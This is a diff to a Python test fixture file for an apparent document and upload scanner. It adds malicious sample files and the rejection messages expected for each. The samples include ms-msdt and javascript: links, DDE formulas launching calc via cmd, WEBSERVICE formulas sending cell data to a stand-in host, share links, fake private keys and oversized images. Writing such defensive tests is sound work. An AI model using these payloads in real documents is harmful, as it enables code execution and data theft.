@@ -170,6 +170,106 @@ def locked_zip():
     return bytes(data)
 
 
+def linking(address, kind="docx"):
+    """An Office file with a link behind words."""
+    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
+    return ooxml(kind, {f"{folder}/_rels/a.rels": relations(("hyperlink", address, "External"))})
+
+
+def computing(formula, element="f"):
+    sheet = f"<worksheet><sheetData><c><{element}>{formula}</{element}><v>1</v></c></sheetData></worksheet>"
+    return ooxml("xlsx", {"xl/worksheets/sheet1.xml": sheet})
+
+
+def odf_linking(address):
+    return odf(extra={"content.xml": f'<a xmlns:x="urn:x"><x:a x:href="{address}">Read</x:a></a>'})
+
+
+def odf_computing(formula):
+    return odf("spreadsheet", {"content.xml": f'<a xmlns:t="urn:t"><t:cell t:formula="{formula}"/></a>'})
+
+
+def private_key(kind):
+    return f"Minutes\n-----BEGIN {kind}-----\nMIIEpAIBAAKCAQEA\n-----END {kind}-----\n".encode()
+
+
+LINKS = {
+    "link to a disk": ("b.docx", lambda: linking("file:///S:/a/x.docx"), "a link to “file:///S:/a/x.docx”"),
+    "link to a drive": ("b.docx", lambda: linking("C:\\Users\\x.docx"), "holds a link to"),
+    "link to a share": ("b.xlsx", lambda: linking("\\\\server\\x.docx", "xlsx"), "holds a link to"),
+    "link to a share with slashes": ("b.docx", lambda: linking("//server/x.docx"), "holds a link to"),
+    "link to a tool of Windows": ("b.docx", lambda: linking("ms-msdt:/id PCWDiagnostic"), "“ms-msdt:/id"),
+    "link to a search of Windows": ("b.pptx", lambda: linking("search-ms:query=x", "pptx"), "holds a link to"),
+    "link to a script": ("b.xlsx", lambda: linking("javascript:alert(1)", "xlsx"), "holds a link to"),
+    "link to a script in pieces": ("b.docx", lambda: linking(" java&#10;script:alert(1)"), "holds a link to"),
+    "link that holds its page": ("b.docx", lambda: linking("data:text/html;base64,AA"), "holds a link to"),
+    "link within a field": ("b.docx", lambda: with_field(' HYPERLINK "file:///x.exe"'), "holds a link to"),
+    "link in pieces of a field": ("b.docx", lambda: with_field(" HYPER", "LINK \\l ms-ms", "dt:/x"), "a link to"),
+    "link within a field to a share": ("b.docx", lambda: with_field(r" HYPERLINK \\\\server\\x"), "holds a link to"),
+    "link behind a drawing": (
+        "b.docx", lambda: ooxml(extra={"word/document.xml": '<v><shape href="file:///x"/></v>'}), "holds a link to",
+    ),
+    "base of links elsewhere": (
+        "b.docx", lambda: ooxml(extra={"docProps/app.xml": "<a><HyperlinkBase>file:///S</HyperlinkBase></a>"}), "link",
+    ),
+    "slide that starts a program": (
+        "b.pptx", lambda: ooxml("pptx", {"ppt/slides/a.xml": '<a><b action="ppaction://program"/></a>'}), "starts a",
+    ),
+    "OpenDocument link to a disk": ("b.odt", lambda: odf_linking("file:///x"), "holds a link to"),
+    "OpenDocument link to a macro": ("b.odt", lambda: odf_linking("vnd.sun.star.script:a"), "holds a link to"),
+    "PDF with a link to a tool of Windows": (
+        "a.pdf", lambda: with_annotation("Link", A=DICTIONARY(S=NAME.URI, URI="ms-msdt:/x")), "holds a link to",
+    ),
+}  # fmt: skip
+FORMULAS = {
+    "formula that asks a machine": ("b.xlsx", lambda: computing('WEBSERVICE("https://e.example/"&amp;A1)'), "fetches"),
+    "formula that asks by its full name": ("b.xlsx", lambda: computing('1+_xlfn.WEBSERVICE( "x")'), "fetches"),
+    "formula that fetches a picture": (
+        "b.xlsx",
+        lambda: computing('_xlfn.IMAGE("https://e.example/a.png")'),
+        "fetches",
+    ),
+    "formula that asks a server": ("b.xlsx", lambda: computing('RTD("x",,"y")'), "fetches"),
+    "formula that starts a program": ("b.xlsx", lambda: computing("cmd|'/c calc'!A1"), "fetches"),
+    "formula of a name": ("b.xlsx", lambda: computing("WEBSERVICE(A1)", "definedName"), "fetches"),
+    "formula of a rule": ("b.xlsx", lambda: computing("WEBSERVICE(A1)", "formula1"), "fetches"),
+    "formula that reads another file": ("b.xlsx", lambda: computing("'\\\\server\\[b.xlsx]S'!A1"), "fetches"),
+    "formula that links to a disk": ("b.xlsx", lambda: computing('HYPERLINK("file:///x","Read")'), "holds a link to"),
+    "formula that hides its link": ("b.xlsx", lambda: computing('HYPERLINK("fi"&amp;"le:///x")'), "fetches"),
+    "formula of OpenDocument": ("b.ods", lambda: odf_computing("of:=WEBSERVICE([.A1])"), "fetches"),
+    "formula of OpenDocument that reads another file": (
+        "b.ods",
+        lambda: odf_computing("of:=['file:///x.ods'#$S.A1]"),
+        "fetches",
+    ),
+    "field of OpenDocument that asks a program": (
+        "b.odt",
+        lambda: odf(extra={"content.xml": "<a><dde-connection-decl/></a>"}),
+        "outside of it",
+    ),
+    "field of OpenDocument that runs a macro": (
+        "b.odt",
+        lambda: odf(extra={"content.xml": "<a><execute-macro/></a>"}),
+        "macros",
+    ),
+    "table with semicolons": ("b.csv", lambda: b"a;b\n=HYPERLINK(1);2\n", "holds a formula"),
+    "table with semicolons, quoted": ("b.csv", lambda: b"a;b\n1;\"=cmd|'/c calc'!A1\"\n", "holds a formula"),
+    "table with tabs": ("b.txt", lambda: b"a\tb\n1\t+SUM(A1)\n", "holds a formula"),
+    "table with bars": ("b.txt", lambda: b"a|b\n1|=SUM(A1)\n", "holds a formula"),
+    "table below a title": ("b.csv", lambda: b"Budget\n\na;b\n=HYPERLINK(1);2\n", "holds a formula"),
+    "text that begins with a formula": ("b.txt", lambda: b"=HYPERLINK(1)\n", "holds a formula"),
+    "text with a program's data": ("b.txt", lambda: b"Minutes\n\n@SUM|'/c calc'!A1\n", "holds a formula"),
+}
+KEYS = {
+    f"private key ({kind})": ("notes.txt", lambda kind=kind: private_key(kind), "holds a private key")
+    for kind in ("PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK")
+} | {
+    "private key (PuTTY)": ("a.csv", lambda: b"PuTTY-User-Key-File-3: ssh-ed25519\n", "holds a private key"),
+    "private key at the seam of two pieces": (
+        "a.txt", lambda: b"Minutes\n" * ((1 << 17) - 2) + private_key("EC PRIVATE KEY"), "holds a private key",
+    ),
+}  # fmt: skip
+
 ODF_PICTURE = '<a xmlns:x="urn:x"><image x:href="https://elsewhere.example/spy.png"/></a>'
 ODF_SCRIPT = '<a><event-listener href="vnd.sun.star.script:a.py$b?language=Python"/></a>'
 EXTERNAL = relations(("attachedTemplate", "https://elsewhere.example/t.dotm", "External"))
@@ -345,6 +445,13 @@ BAD_FILES = {
     "PNG cut off": ("b.png", lambda: png()[:-14], "damaged"),
     "PNG with a spoilt part": ("b.png", lambda: spoilt(png(), 45, b"\x01\x02"), "damaged"),
     "PNG of too many points": ("b.png", lambda: png(60_000, 60_000), "too many points"),
+    "PNG of a hundred million points": (
+        "b.png", lambda: png(10_000, 10_000), "too many points (10,000 by 10,000; at most 50 million",
+    ),
+    "JPEG of a hundred million points": ("b.jpg", lambda: jpeg(10_000, 10_000), "too many points"),
+    "JPEG in very many parts": (
+        "b.jpg", lambda: jpeg()[:2] + b"\xff\xfe\x00\x02\xff\xe0\x00\x07JFIF\x00" * 12_000 + jpeg()[2:], "small parts",
+    ),
     "PNG with something behind": ("b.png", lambda: png() + b"<script>", "behind its picture"),
     "PNG without points": ("b.png", lambda: png()[:33] + chunk(b"IEND", b""), "damaged"),
     "JPEG cut off": ("b.jpg", lambda: jpeg()[:-2], "damaged"),
@@ -367,3 +474,4 @@ BAD_FILES = {
         "b.csv", lambda: b"a,b\n" + b"1,2\n" * 5000 + b'"=HYPERLINK(""http://e.example"")",2\n', "holds a formula",
     ),
 }  # fmt: skip
+BAD_FILES |= LINKS | FORMULAS | KEYS
